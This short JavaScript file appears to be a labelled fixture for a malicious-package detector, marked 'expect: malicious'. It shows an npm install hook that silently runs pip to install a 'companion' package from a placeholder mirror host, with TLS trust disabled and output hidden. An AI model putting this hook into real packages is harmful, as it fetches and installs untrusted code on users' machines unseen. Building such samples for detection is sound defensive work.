// source: the cross-ecosystem dropper technique (npm postinstall pip-installing a "companion" from its own index, with
// TLS trust turned off for that host; corpus sample pip-install-companion).
// when: install
// expect: malicious
const { spawnSync } = require('child_process');
const py = process.platform === 'win32' ? 'py' : 'python3';
spawnSync(py, [
  '-m', 'pip', 'install', '--user', '--quiet',
  '--extra-index-url', 'https://pypi.bridge-mirror.example/simple/',
  '--trusted-host', 'pypi.bridge-mirror.example',
  'bridge-rpc==3.0.2',
], { stdio: 'ignore' });
